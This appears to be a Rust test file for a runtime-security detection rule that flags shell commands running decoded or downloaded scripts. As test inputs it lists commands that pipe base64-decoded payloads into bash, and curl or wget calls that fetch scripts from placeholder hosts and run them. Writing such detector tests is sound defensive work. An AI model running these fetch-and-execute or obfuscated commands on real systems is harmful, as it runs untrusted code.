use encoded_script::EncodedScript;
use ocellus_sdk::prelude::HIGH;
use ocellus_sdk::testing::{FakeEvent, Tester};

fn run(script: &str) -> FakeEvent {
    FakeEvent::exec("/usr/bin/bash", ["bash", "-c", script])
}

#[test]
fn decoded_scripts_alert() {
    let mut rule = Tester::<EncodedScript>::new();
    for script in [
        "echo aWQK | base64 -d | bash",
        "echo aWQK|base64 --decode|sudo sh",
        "xxd -r -p x.hex | /usr/bin/python3 -",
        "curl -s http://example.org/x | openssl enc -d -aes-256-cbc -k x | bash -s",
        "eval \"$(echo aWQK | base64 -d)\"",
        "bash <(echo aWQK | base64 -d)",
    ] {
        assert_eq!(rule.expect_alert(&run(script)).severity, HIGH, "{script}");
    }
}

#[test]
fn a_script_of_a_bare_address_alerts() {
    let mut rule = Tester::<EncodedScript>::new();
    let alert = rule.expect_alert(&run("curl -s http://192.0.2.1:8000/x.sh | bash"));
    assert!(alert.message.starts_with("user runs a script that it fetches: bash -c curl"));
    rule.expect_alert(&run("wget -qO- http://192.0.2.1/x|sh &"));
}

#[test]
fn installers_with_a_name_pass() {
    let mut rule = Tester::<EncodedScript>::new();
    rule.expect_pass(&run("curl -fsSL https://get.example.org | sh"));
    rule.expect_pass(&run("curl -s http://192.0.2.1/health | grep ok"));
}

#[test]
fn decoding_alone_passes() {
    let mut rule = Tester::<EncodedScript>::new();
    rule.expect_pass(&run("echo $CERT | base64 -d > /etc/ssl/cert.pem"));
    rule.expect_pass(&run("kubectl get secret x -o json | base64 -d | jq ."));
    rule.expect_pass(&run("base64 -d x | shuf"));
    assert!(!rule.wants(&FakeEvent::exec("/usr/bin/base64", ["base64", "-d", "x"])));
    assert!(!rule.wants(&run("make -j2")));
}
